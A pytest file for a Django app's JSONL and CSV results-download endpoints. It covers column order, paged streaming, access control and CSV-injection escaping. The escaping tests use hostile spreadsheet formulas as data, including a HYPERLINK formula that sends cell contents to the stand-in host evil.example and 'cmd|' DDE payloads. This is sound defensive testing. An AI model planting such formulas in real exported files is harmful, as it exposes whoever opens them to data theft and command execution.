"""`GET /api/jobs/{id}/results.jsonl` and `.csv`: every call of a job in index order, bodies as
the call pages give them, read in pages and streamed; text a spreadsheet would run is inert in
CSV; another user's job is a 404."""

from __future__ import annotations

import base64
import csv
import io
import json
import math
import threading
from collections.abc import Iterator
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from ratejobs.models import Call, Job
from ratejobs.selectors import results
from ratejobs.services.calls import call_attempt_by_id
from ratejobs.services.credentials import credentials_add

# The columns as docs/api.md's results files document them, in their order: the file's
# contract, written out here rather than taken from the code that writes it.
# Columns only ever come at the end (query, duration_ms), so a reader by position keeps working.
COLUMNS = [
    "index", "method", "path", "status", "status_code", "attempts", "duration", "cost",
    "cost_used", "error", "response_body", "response_body_base64", "response_truncated",
    "response_removed_at", "credential_key", "query", "duration_ms",
]  # fmt: skip
REMOVED_AT = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
BINARY = b"\xff\xfe\x00\x01"
# What each call of results_job ended with, and the row each must give.
OUTCOMES: list[tuple[dict[str, Any], dict[str, Any]]] = [
    (
        {"status": "succeeded", "status_code": 200, "attempts": 1, "duration": 0.25,
         "query": {"q": "café", "tag": ["a", "b"]},
         "response_body": '{"id": 0, "name": "é"}'.encode()},
        {"response_body": '{"id": 0, "name": "é"}', "response_body_base64": False,
         "duration_ms": 250.0},
    ),
    (
        # a float as a clock gives it: milliseconds to a tenth
        {"status": "succeeded", "status_code": 200, "attempts": 2, "duration": 1.5123456789012345,
         "response_body": b'plain, "quoted"\nsecond line'},
        {"response_body": 'plain, "quoted"\nsecond line', "response_body_base64": False,
         "duration_ms": 1512.3},
    ),
    (
        {"status": "succeeded", "status_code": 200, "attempts": 1, "duration": 0.5,
         "response_body": BINARY},
        {"response_body": base64.b64encode(BINARY).decode(), "response_body_base64": True,
         "duration_ms": 500.0},
    ),
    (
        # retention removed the body: null, and the time it went
        {"status": "succeeded", "status_code": 200, "attempts": 1, "duration": 0.5,
         "response_body": None, "response_removed_at": REMOVED_AT},
        {"response_body": None, "response_body_base64": False,
         "response_removed_at": "2026-01-02T03:04:05Z", "duration_ms": 500.0},
    ),
    (
        {"status": "failed", "status_code": 500, "attempts": 5, "duration": 0.125,
         "error": "HTTP 500 after 5 attempts", "response_body": b"oops",
         "response_truncated": True},
        {"response_body": "oops", "response_body_base64": False, "response_truncated": True,
         "duration_ms": 125.0},
    ),
    (
        {"status": "cancelled", "error": "job cancelled"},
        {"response_body": None, "response_body_base64": False, "duration_ms": None},
    ),
]  # fmt: skip


def record_outcomes(job: Job) -> Job:
    """The job's calls end as OUTCOMES says (the job needs as many calls)."""
    for index, (fields, _) in enumerate(OUTCOMES):
        Call.objects.filter(job=job, index=index).update(**fields)
    return job


@pytest.fixture
def results_job(make_job) -> Job:
    return record_outcomes(make_job(calls=len(OUTCOMES)))


def expected_rows() -> list[dict[str, Any]]:
    rows = []
    for index, (fields, shown) in enumerate(OUTCOMES):
        row = {
            "index": index,
            "method": "GET",
            "path": f"/items/{index}",
            "status": fields["status"],
            "status_code": fields.get("status_code"),
            "attempts": fields.get("attempts", 0),
            "duration": fields.get("duration"),
            "cost": 0,
            "cost_used": None,
            "error": fields.get("error", ""),
            "response_truncated": False,
            "response_removed_at": None,
            "credential_key": "",
            "query": fields.get("query"),
            **shown,
        }
        rows.append({name: row[name] for name in COLUMNS})
    return rows


def content(response: Any) -> bytes:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content)


def test_jsonl_gives_every_call_in_index_order_with_bodies_as_the_call_pages_do(
    api_client, results_job
):
    response = api_client.get(f"/api/jobs/{results_job.pk}/results.jsonl")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/x-ndjson"
    assert response["Content-Disposition"] == (
        f'attachment; filename="job-{results_job.pk}-results.jsonl"'
    )
    lines = content(response).decode().splitlines()
    assert [json.loads(line) for line in lines] == expected_rows()
    # the same body the one-call route gives
    page = api_client.get(f"/api/jobs/{results_job.pk}/calls/2/").json()
    assert (page["response_body"], page["response_body_base64"]) == (
        json.loads(lines[2])["response_body"],
        True,
    )


def test_csv_gives_a_header_and_the_same_rows_empty_for_null(api_client, results_job):
    response = api_client.get(f"/api/jobs/{results_job.pk}/results.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="job-{results_job.pk}-results.csv"'
    )
    table = list(csv.reader(io.StringIO(content(response).decode(), newline="")))
    assert table[0] == COLUMNS

    def as_csv(value: Any) -> str:
        if value is None:
            return ""
        if isinstance(value, bool):
            return "true" if value else "false"
        if isinstance(value, dict):  # the query, as its JSON text
            return json.dumps(value, ensure_ascii=False, separators=(",", ":"))
        return str(value)

    assert table[1:] == [[as_csv(row[name]) for name in COLUMNS] for row in expected_rows()]


def test_another_users_job_is_a_404_and_a_job_being_purged_is_gone(
    api_client, results_job, client_for, other_user, superuser
):
    for suffix in ("jsonl", "csv"):
        url = f"/api/jobs/{results_job.pk}/results.{suffix}"
        refused = client_for(other_user).get(url, HTTP_ACCEPT="text/csv")
        assert refused.status_code == 404 and refused["Content-Type"] == "application/json"
        assert "plain" not in refused.content.decode()
        assert client_for(superuser).get(url).status_code == 200
        assert client_for(None).get(url).status_code == 401
    Job.objects.filter(pk=results_job.pk).update(purge_started=REMOVED_AT)
    assert api_client.get(f"/api/jobs/{results_job.pk}/results.jsonl").status_code == 404


def test_an_accept_header_asking_for_the_file_type_gets_the_file(api_client, results_job):
    response = api_client.get(f"/api/jobs/{results_job.pk}/results.csv", HTTP_ACCEPT="text/csv")
    assert response.status_code == 200 and content(response).startswith(b"index,method,")


@pytest.mark.parametrize("suffix", ["jsonl", "csv"])
def test_the_download_reads_the_calls_in_keyset_pages_bounded_by_bytes(
    api_client, make_job, monkeypatch, suffix
):
    # given: a budget of 400 bytes a page, so bodies of 40 bytes come 10 a page (the 11th is
    # past it): 500 calls take 50 pages, each after the first asking for 20 calls (twice what
    # the one before kept); and pieces of 1 KiB, many writes
    monkeypatch.setattr(results, "PAGE_BUDGET_BYTES", 400)
    monkeypatch.setattr(results, "PIECE_BYTES", 1024)
    for calls in (5, 500):
        job = make_job(calls=calls)
        Call.objects.filter(job=job).update(status="succeeded", response_body=b"x" * 40)
        with CaptureQueriesContext(connection) as queries:
            response = api_client.get(f"/api/jobs/{job.pk}/results.{suffix}")
            pieces = list(response.streaming_content)
        assert isinstance(response, StreamingHttpResponse)
        assert b"".join(pieces).count(b"x" * 40) == calls
        # expect: one short statement a page, each but the first after the last index read
        pages = [query["sql"] for query in queries if 'FROM "ratejobs_call"' in query["sql"]]
        assert len(pages) == math.ceil(calls / 10)
        assert pages[0].endswith(f"LIMIT {results.PAGE_ROWS}")
        assert all(sql.endswith("LIMIT 20") for sql in pages[1:])
        assert all('"ratejobs_call"."index" > ' in sql for sql in pages[1:])
    assert len(pieces) > 10  # written as it is read, not at the end


# What a spreadsheet would run (OWASP "CSV Injection"), a call each: the path a submitter gave,
# what the API answered, and the two as CSV cells. A formula for each character that starts one
# (no tab or CR in a path: paths have no control characters), a negative number, a binary body
# whose base64 starts with "+", and text with those characters further on, left alone.
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
INJECTIONS: list[tuple[str, bytes, str, str]] = [
    (HYPERLINK, HYPERLINK.encode(), "'" + HYPERLINK, "'" + HYPERLINK),
    ("+1", b"+1+cmd|' /C calc'!A0", "'+1", "'+1+cmd|' /C calc'!A0"),
    ("-1", b"-1", "'-1", "'-1"),
    ("@SUM(1+1)", b"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("/tab", b"\t=1+1", "/tab", "'\t=1+1"),
    ("/cr", b"\r=1+1", "/cr", "'\r=1+1"),
    ("/binary", b"\xfb\xff", "/binary", "'+/8="),
    ("/a=1+1", b"plain, = + - @ later on", "/a=1+1", "plain, = + - @ later on"),
]
KEY = "-staging"  # a credential key may start with "-"


class _Answering(BaseHTTPRequestHandler):
    """An API answering each request with the INJECTIONS body its X-Answer header names."""

    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        body = INJECTIONS[int(self.headers["X-Answer"])][1]
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        pass


@pytest.fixture
def answering_api() -> Iterator[str]:
    """The base URL of an _Answering API on a real socket."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Answering)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


@pytest.fixture
def injection_job(api_client, make_api, answering_api) -> Job:
    """The INJECTIONS submitted through the REST API with KEY, each call sent to the answering
    API and recorded as a worker does; the first call's error text quotes a formula."""
    api = make_api(base_url=answering_api)
    credentials_add(api=api, items=[(KEY, "secret-of-staging")])
    calls = [
        {"path": path, "headers": {"X-Answer": str(i)}} for i, (path, *_) in enumerate(INJECTIONS)
    ]
    created = api_client.post(
        "/api/jobs/",
        {"api": api.name, "name": "formulas", "credential_key": KEY, "calls": calls},
        format="json",
    )
    assert created.status_code == 201, created.json()
    job = Job.objects.get(pk=created.json()["id"])
    for call in Call.objects.filter(job=job).order_by("index"):
        Call.objects.filter(pk=call.pk).update(dispatched_at=timezone.now())
        assert call_attempt_by_id(call_id=call.pk) == "succeeded"
    # no error text of ours starts a formula today, but one may quote what an API said
    Call.objects.filter(job=job, index=0).update(error="@SUM(1+1) said the API")
    return job


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote_and_jsonl_keeps_them(
    api_client, injection_job
):
    url = f"/api/jobs/{injection_job.pk}/results"
    rows = [json.loads(line) for line in content(api_client.get(f"{url}.jsonl")).splitlines()]
    text = content(api_client.get(f"{url}.csv")).decode()
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert table[0] == COLUMNS
    cells = [dict(zip(COLUMNS, line, strict=True)) for line in table[1:]]
    # expect: JSON lines give every value exactly as it came
    assert [(row["path"], row["response_body"], row["credential_key"]) for row in rows] == [
        (path, base64.b64encode(body).decode() if path == "/binary" else body.decode(), KEY)
        for path, body, *_ in INJECTIONS
    ]
    assert rows[0]["error"] == "@SUM(1+1) said the API"
    # and CSV puts a ' before each text cell that starts a formula, and before nothing else
    assert [(cell["path"], cell["response_body"], cell["credential_key"]) for cell in cells] == [
        (path_cell, body_cell, "'-staging") for _, _, path_cell, body_cell in INJECTIONS
    ]
    assert cells[0]["error"] == "'@SUM(1+1) said the API"
    assert {(cell["method"], cell["status"], cell["status_code"]) for cell in cells} == {
        ("GET", "succeeded", "200")
    }
    # the base64 body decodes to the same bytes once its ' is taken off
    assert cells[6]["response_body_base64"] == "true"
    assert base64.b64decode(cells[6]["response_body"].removeprefix("'")) == b"\xfb\xff"


def test_the_schema_documents_both_files_with_their_media_types(client_for):
    schema = client_for(None).get("/api/schema/?format=json").json()
    for suffix, media_type in (("jsonl", "application/x-ndjson"), ("csv", "text/csv")):
        operation = schema["paths"][f"/api/jobs/{{job_id}}/results.{suffix}"]["get"]
        assert list(operation["responses"]["200"]["content"]) == [media_type]
        assert "Content-Disposition" in operation["responses"]["200"]["headers"]
        assert {"401", "404"} <= set(operation["responses"])
        assert "response_body_base64" in operation["description"]
    csv_file = schema["paths"]["/api/jobs/{job_id}/results.csv"]["get"]["description"]
    assert "=, +, -, @, a tab or a carriage return is written with a leading '" in csv_file


def test_a_row_carries_the_call_s_query_and_its_duration_in_milliseconds(api_client, results_job):
    url = f"/api/jobs/{results_job.pk}/results"
    first = json.loads(content(api_client.get(f"{url}.jsonl")).splitlines()[0])
    assert first["query"] == {"q": "café", "tag": ["a", "b"]}
    assert (first["duration"], first["duration_ms"]) == (0.25, 250.0)
    table = csv.DictReader(io.StringIO(content(api_client.get(f"{url}.csv")).decode(), newline=""))
    cells = list(table)
    # expect: in CSV the query is its JSON text, empty for none; milliseconds to a tenth
    assert cells[0]["query"] == '{"q":"café","tag":["a","b"]}'
    assert json.loads(cells[0]["query"]) == first["query"]
    assert (cells[1]["query"], cells[1]["duration_ms"]) == ("", "1512.3")
    assert (cells[5]["duration"], cells[5]["duration_ms"]) == ("", "")
